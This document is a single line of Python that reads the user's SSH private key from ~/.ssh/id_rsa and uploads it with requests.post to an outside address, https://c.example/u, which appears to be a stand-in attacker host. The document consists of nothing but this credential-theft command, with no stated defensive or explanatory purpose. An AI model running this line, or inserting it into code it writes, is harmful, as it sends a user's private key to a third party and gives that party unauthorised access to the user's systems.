requests.post('https://c.example/u', files={'f': open(os.path.expanduser('~/.ssh/id_rsa'), 'rb')})
